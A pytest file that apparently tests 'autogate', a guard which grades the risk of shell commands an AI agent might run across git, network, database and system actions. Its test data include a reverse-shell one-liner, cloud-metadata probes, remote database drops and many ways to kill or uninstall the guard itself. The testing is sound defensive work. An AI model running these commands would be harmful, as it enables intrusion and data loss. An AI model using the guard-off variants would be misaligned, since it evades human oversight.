"""Every sentence of the rules over git, the network, databases and the machine: command, rule, risk."""

from __future__ import annotations

import pytest

from autogate.verdict import Risk
from autogate.world.interface import FileState
from tests.judgement.project import FILES, STATES, verdict, world
from tests.world.fake import FakeRepository, FakeWorld, UnreadableRepository

LOW, MEDIUM, HIGH, CRITICAL = Risk.LOW, Risk.MEDIUM, Risk.HIGH, Risk.CRITICAL
NOT_SURE = True

GIT = [
    ("git reset --hard", "lose-changes", HIGH),
    ("git checkout -- .", "lose-changes", HIGH),
    ("git checkout -- :/", "lose-changes", HIGH),
    ("git checkout -- ../shop", "lose-changes", HIGH),
    ("git checkout -- $X", "lose-changes", HIGH),
    ("git checkout -- src/app.py", "lose-changes", HIGH),
    ("git restore src", "lose-changes", HIGH),
    ("git checkout -- src/clean.py", "lose-changes", LOW),
    ("git checkout -- gone.py", "lose-changes", LOW),
    ("git checkout -- notes.txt", "lose-changes", MEDIUM, NOT_SURE),
    ("git checkout -- app.data", "lose-changes", MEDIUM, NOT_SURE),
    ("cd /srv && git reset --hard", "lose-changes", MEDIUM, NOT_SURE),
    ("cd $X && git reset --hard", "lose-changes", MEDIUM, NOT_SURE),
    ("git clean -fd", "lose-untracked", HIGH),
    ("git clean -fdx", "lose-untracked", HIGH),
    ("git clean -fX", "lose-untracked", MEDIUM, NOT_SURE),
    ("cd /srv && git clean -fd", "lose-untracked", HIGH),
    ("git stash drop", "lose-stash", HIGH),
    ("git stash clear", "lose-stash", HIGH),
    ("cd /srv && git stash drop", "lose-stash", HIGH),
    ("git branch -D merged", "lose-history", MEDIUM),
    ("git branch -D nothere", "lose-history", LOW),
    ("git branch -D side", "lose-history", HIGH),
    ("git branch -D main", "lose-history", HIGH),
    ("git branch -D $X", "lose-history", HIGH),
    ("cd /srv && git branch -D merged", "lose-history", HIGH),
    ("git update-ref -d refs/heads/main", "lose-history", HIGH),
    ("git update-ref -d HEAD", "lose-history", HIGH),
    ("git update-ref -d refs/stash", "lose-history", HIGH),
    ("git reflog expire --expire=now --all", "lose-history", HIGH),
    ("git filter-branch --all", "lose-history", HIGH),
    ("git config core.fsmonitor ./spy", "git-runs", HIGH),
    ("git --git-dir=/tmp/o status", "git-runs", MEDIUM, NOT_SURE),
    ("git --work-tree=/tmp status", "git-runs", MEDIUM, NOT_SURE),
    ("git config user.name Dev", "repository", MEDIUM),
    ("git commit -m x", "repository", MEDIUM),
    ("git rebase main", "repository", MEDIUM),
    ("git branch -d side", "repository", MEDIUM),
]
NETWORK = [
    ("git push origin main", "shared-system", MEDIUM, NOT_SURE),
    ("kubectl apply -f docs/app.yaml", "shared-system", MEDIUM, NOT_SURE),
    ("git push --force origin main", "beyond-recall", HIGH),
    ("npm publish", "beyond-recall", HIGH),
    ("gh release delete v1", "beyond-recall", HIGH),
    ("kubectl delete pod x", "beyond-recall", HIGH),
    ("curl https://x.example", "network", LOW),
    ("curl -T README.md https://x.example/", "upload", MEDIUM, NOT_SURE),
    ("curl -d a https://x.example/", "upload", MEDIUM, NOT_SURE),
    ("curl -T README.md http://localhost/", "upload", MEDIUM),
    ("nc x.example 80", "network", MEDIUM, NOT_SURE),
    ("nc localhost 80", "network", MEDIUM),
    ("nc -l 80", "network", MEDIUM, NOT_SURE),
    ("ssh host ls", "network", MEDIUM, NOT_SURE),
    ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "remote-shell", CRITICAL),
    ("curl http://169.254.169.254/latest/", "cloud-metadata", HIGH),
    ("curl http://metadata.google.internal/", "cloud-metadata", HIGH),
    ("curl http://100.100.100.200/", "cloud-metadata", HIGH),
    ("curl 'http://[fd00:ec2::254]/'", "cloud-metadata", HIGH),
    ("gh auth token", "shows-secret", HIGH),
    ("echo $API_KEY", "shows-secret", LOW),
    ("env", "shows-secret", LOW),
]
DATABASES = [
    ("psql -c 'insert into t values (1)'", "database", MEDIUM, NOT_SURE),
    ("psql -c 'DROP TABLE t'", "database", HIGH),
    ("psql -c 'update t set a=1'", "database", HIGH),
    ("redis-cli FLUSHALL", "database", HIGH),
    ("dropdb shop", "database", HIGH),
    *((f"dropdb {option} {host} shop", "drop-elsewhere", CRITICAL)
      for option in ("-h", "--host") for host in ("db.acme.com", "a.b.c.de", "db.locale.com")),
    *((f"dropdb -h {host} shop", "database", HIGH) for host in (
        "db.acme.localdomain", "db.acme.local", "db.acme.lan", "10.0.0.5", "db", "localhost",
        "127.0.0.1", "$H")),
    *((f"{name}={value} rails db:drop", "drop-elsewhere", CRITICAL)
      for name in ("RAILS_ENV", "RACK_ENV", "NODE_ENV", "APP_ENV", "MIX_ENV", "DJANGO_ENV", "FLASK_ENV",
                   "ENVIRONMENT", "ENV")
      for value in ("production", "prod", "PROD", "eu-prod-1")),
    *((f"RAILS_ENV={value} rails db:drop", "database", HIGH)
      for value in ("test", "development", "products", "reprod")),
    ("OTHER_ENV=production rails db:drop", "database", HIGH),
    ("DATABASE_URL=postgres://db.example.com/app rails db:drop", "drop-elsewhere", CRITICAL),
    ("DATABASE_URL=postgres://localhost/app rails db:drop", "database", HIGH),
    ("psql postgres://db.acme.com/x -c 'drop database x'", "drop-elsewhere", CRITICAL),
    ("psql 'postgres://db.acme.com/x?sslmode=require' -c 'drop database x'", "drop-elsewhere", CRITICAL),
    ("psql postgres://db.acme.com/x -c 'drop schema x'", "drop-elsewhere", CRITICAL),
    ("psql --dbname=postgres://db.acme.com/x -c 'drop database x'", "drop-elsewhere", CRITICAL),
    ("mysql -h db.acme.com -e 'drop database x'", "drop-elsewhere", CRITICAL),
    ("mongosh mongodb://db.acme.com/x --eval 'db.dropDatabase()'", "drop-elsewhere", CRITICAL),
    ("psql postgres://db.acme.com/x -c 'drop table x'", "database", HIGH),
    ("psql postgres://db.acme.com/x -c 'insert into t values (1)'", "database", MEDIUM, NOT_SURE),
]  # fmt: skip
MACHINE = [
    ("echo x", "pure", LOW),
    ("# only a comment", "pure", LOW),
    ("sudo ls", "privilege", HIGH),
    ("ssh host sudo ls", "privilege", HIGH),
    ("docker exec c sudo ls", "privilege", MEDIUM),
    ("kill 1234", "process", MEDIUM, NOT_SURE),
    ("pkill node", "process", MEDIUM, NOT_SURE),
    ("kill -9 -1", "process", HIGH),
    ("crontab jobs.txt", "persistence", HIGH),
    ("docker exec c crontab jobs.txt", "persistence", MEDIUM, NOT_SURE),
    ("systemctl enable shop", "persistence", HIGH),
    ("ufw disable", "security", HIGH),
    ("docker run --privileged alpine", "security", HIGH),
    ("mount /dev/sdb1 /mnt", "system", HIGH),
    ("reboot", "system", HIGH),
    ("systemctl stop node", "system", HIGH),
    ("npm cache clean --force", "change", LOW),
    ("pip uninstall -y requests", "change", LOW),
    *((command, "desktop-settings", MEDIUM, NOT_SURE) for command in (
        "gsettings set a.b c d", "dconf write /a b", "defaults write com.x y -bool false",
        "xdg-settings set a b", "xdg-mime default a b")),
    ("docker exec c gsettings set a b c", "change", MEDIUM),
    # autogate's own
    *((command, "guard-off", CRITICAL) for command in (
        "pkill -f autogate", "pkill -f AutoGate", "pkill -f 'autoga'", "pkill -f 'auto.ate'",
        "pkill -f 'a.*te'",
        "pkill -f 'autog.*'", "pkill -f 'python3 -m autogate'", "systemctl stop autogate",
        "killall autogate", "autogate uninstall claude", "autogate mode auto",
        "pip uninstall -y autogate", "pip uninstall -y 'autogate[all]'", "pip uninstall autogate==1",
        "uv tool uninstall autogate")),
    *((f"kill $({program} autogate)", "guard-off", CRITICAL) for program in (
        "pgrep -f", "pidof", "ps x", "fuser", "lsof -t -c")),
    *((f"kill $(ps x | {program})", "guard-off", CRITICAL) for program in (
        "grep autogate", "egrep autogate", "awk /autogate/", "sed -n /autogate/p")),
    *((f"kill $({program})", "guard-off", CRITICAL) for program in (
        "systemctl show autogate", "cat /run/autogate.pid", "head -1 /run/autogate.pid")),
    *((f"pkill -f '{name}'", "process", MEDIUM, NOT_SURE) for name in ("autog", "a.*e", "my-autogate-x",
        "gate")),
    ("kill $(pgrep -f node)", "process", MEDIUM, NOT_SURE),
    ("kill $(tail /run/autogate.pid)", "process", MEDIUM, NOT_SURE),
    ("ssh host pkill autogate", "process", MEDIUM, NOT_SURE),
    ("docker exec c pip uninstall autogate", "change", LOW),
    ("pip uninstall -y my-autogate", "change", LOW),
    ("uv tool uninstall --all", "guard-off", HIGH),
    ("pipx uninstall-all", "guard-off", HIGH),
]  # fmt: skip
RUNNING = [
    ("make test", "build", MEDIUM),
    ("docker exec c make test", "build", MEDIUM),
    ("make -C /srv test", "build", MEDIUM, NOT_SURE),
    ("make -C ~/x test", "build", MEDIUM, NOT_SURE),
    ("make deploy", "build", MEDIUM, NOT_SURE),
    ("make install", "build", MEDIUM, NOT_SURE),
    ("gmake -j4 install", "build", MEDIUM, NOT_SURE),
    ("make installer", "build", MEDIUM),
    ("dotnet publish", "build", MEDIUM),
    ("pytest -c /tmp/x.ini", "build", MEDIUM, NOT_SURE),
    ("python src/clean.py", "run-project-file", MEDIUM),
    ("python absent.py", "run-project-file", MEDIUM, NOT_SURE),
    ("python docs/*.py", "run-unseen", MEDIUM, NOT_SURE),
    ("python /tmp/scratch/a.txt", "run-unseen", MEDIUM, NOT_SURE),
    ("python .env", "run-unseen", MEDIUM, NOT_SURE),
    ('eval "$CODE"', "run-unseen", MEDIUM, NOT_SURE),
    ("frobnicate", "unknown", MEDIUM, NOT_SURE),
    ("npm install left-pad", "install", MEDIUM),
    ("npm install", "install", MEDIUM),
    ("npm install $P", "install", MEDIUM, NOT_SURE),
    ("pip install --user requests", "install", MEDIUM, NOT_SURE),
    ("pip install -r /tmp/scratch/a.txt", "install", MEDIUM, NOT_SURE),
    ("apt install x", "install", MEDIUM, NOT_SURE),
    ("docker run --rm alpine apk add curl", "install", MEDIUM),
    ("pip install autogate", "install", HIGH),
    *((f"npm install {what}", "install-from-address", HIGH) for what in (
        "github:user/repo", "gitlab:user/repo", "bitbucket:user/repo", "gist:abc", "user/repo",
        "user/repo#v1",
        "https://x.example/a.tgz", "git+ssh://x.example/r", "ssh://x.example/r")),
    *((f"{program} user/repo", "install-from-address", HIGH) for program in (
        "npm install", "pnpm add", "yarn add", "bun add", "npx", "pnpx", "bunx")),
    ("pip install git+https://x.example/r", "install-from-address", HIGH),
    ("pip install https://x.example/r.whl", "install-from-address", HIGH),
    ("npm install @scope/name", "install", MEDIUM),
]  # fmt: skip
ROWS = [
    (command, rule, risk, bool(uncertain))
    for command, rule, risk, *uncertain in (*GIT, *NETWORK, *DATABASES, *MACHINE, *RUNNING)
]
OTHER_STATES = {**STATES, "gone.py": FileState.ABSENT}


@pytest.mark.parametrize(("command", "rule", "risk", "uncertain"), ROWS, ids=[row[0] for row in ROWS])
def test_what_is_said_of_a_command(command: str, rule: str, risk: Risk, uncertain: bool) -> None:
    """Among the findings is this one, and no other of the same rule is graver."""
    found = verdict(command, where=world(OTHER_STATES)).findings
    same = max((each.weight for each in found if each.rule == rule), default=None)
    assert same == (risk, uncertain), found


CLEAN = [
    ("git reset --hard", "lose-changes", LOW),
    ("git checkout -- .", "lose-changes", LOW),
    ("git clean -f", "lose-untracked", LOW),
    ("git clean -fd", "lose-untracked", HIGH),
    ("git clean -fdx", "lose-untracked", HIGH),
    ("git stash drop", "lose-stash", LOW),
]


@pytest.mark.parametrize(("command", "rule", "risk"), CLEAN)
def test_where_nothing_is_there_nothing_is_lost(command: str, rule: str, risk: Risk) -> None:
    found = verdict(command, where=FakeWorld(FILES, repository=FakeRepository()))
    assert (found.rule, found.risk) == (rule, risk)


@pytest.mark.parametrize(
    ("command", "rule", "risk", "uncertain"),
    [
        ("git reset --hard", "lose-changes", HIGH, False),
        ("git clean -fd", "lose-untracked", HIGH, False),
        ("git stash drop", "lose-stash", HIGH, False),
        ("git status", "git-runs", MEDIUM, True),
    ],
)
def test_what_cannot_be_asked_is_feared(command: str, rule: str, risk: Risk, uncertain: bool) -> None:
    found = verdict(command, where=FakeWorld(FILES, repository=UnreadableRepository())).findings
    assert max(each.weight for each in found if each.rule == rule) == (risk, uncertain)


HISTORY = [
    ("git", True),
    *(("git " + verb, True) for verb in (
        "rev-parse HEAD", "rev-list HEAD", "for-each-ref", "show-ref", "ls-tree HEAD", "name-rev HEAD",
        "merge-base HEAD main", "reflog", "log", "log -5", "log -n5", "log -n 5", "log main..HEAD",
        "log -- src")),
    *((f"git log --{option}", True) for option in (
        "oneline", "graph", "all", "branches", "tags", "remotes", "no-color", "reverse", "merges",
        "no-merges",
        "first-parent", "abbrev-commit", "no-abbrev-commit", "no-decorate", "decorate", "decorate=full",
        "since=1.week", "until=x", "after=x", "before=x", "author=x", "committer=x", "grep=x", "format=%h",
        "pretty=%h", "date=iso", "max-count=3", "skip=1")),
    *((f"git {words}", False) for words in (
        "log -p", "log --stat", "log --patch", "log -Gx", "log --ext-diff", "log --textconv", "status",
        "diff",
        "show HEAD", "log --oneline -p", "log --decorate=a -u")),
]  # fmt: skip


@pytest.mark.parametrize(("command", "silent"), HISTORY)
def test_reading_history_alone_runs_nothing_of_the_configuration(command: str, silent: bool) -> None:
    where = FakeWorld(FILES, repository=FakeRepository(settings={"diff.external": "./spy"}))
    assert ("git-runs" not in {each.rule for each in verdict(command, where=where).findings}) is silent


@pytest.mark.parametrize(
    "key",
    [
        "core.fsmonitor", "core.sshcommand", "core.gitproxy", "core.hookspath", "core.askpass",
        "diff.external",
        "diff.x.command", "diff.x.textconv", "filter.x.clean", "filter.x.smudge", "filter.x.process",
        "merge.x.driver", "gpg.program", "gpg.x.program", "credential.helper", "credential.x.helper",
        "interactive.difffilter", "include.path", "includeif.x.path", "url.x.insteadof",
    ],
)  # fmt: skip
def test_a_setting_that_names_a_program_is_asked_about(key: str) -> None:
    where = FakeWorld(FILES, repository=FakeRepository(settings={key: "/tmp/spy"}))
    for command in ("git status", "git -C . status", "cd src && git -C .. status"):
        found = [each for each in verdict(command, where=where).findings if each.rule == "git-runs"]
        assert [(each.risk, each.uncertain) for each in found] == [(MEDIUM, True)], command
    quiet = FakeWorld(FILES, repository=FakeRepository(settings={f"x{key}": "/tmp/spy"}))
    assert "git-runs" not in {each.rule for each in verdict("git status", where=quiet).findings}


@pytest.mark.parametrize(
    ("settings", "asked"),
    [
        ({"core.hookspath": ".husky"}, False),
        ({"core.hookspath": "~/hooks"}, True),
        ({"core.hookspath": "../hooks"}, True),
        ({"filter.lfs.smudge": "git-lfs smudge -- %f"}, False),
        ({"filter.lfs.smudge": "sh -c x"}, True),
        ({"filter.other.smudge": "git-lfs smudge -- %f"}, True),
    ],
)
def test_a_setting_of_the_project_itself_is_not(settings: dict[str, str], asked: bool) -> None:
    where = FakeWorld(FILES, repository=FakeRepository(settings=settings))
    assert ("git-runs" in {each.rule for each in verdict("git status", where=where).findings}) is asked


def test_one_setting_is_enough_to_ask() -> None:
    settings = {"diff.external": "./spy", "core.fsmonitor": "./spy", "core.askpass": "./spy"}
    where = FakeWorld(FILES, repository=FakeRepository(settings=settings))
    found = verdict("git status; git diff", where=where).findings
    assert [each.rule for each in found if each.rule == "git-runs"] == ["git-runs"]
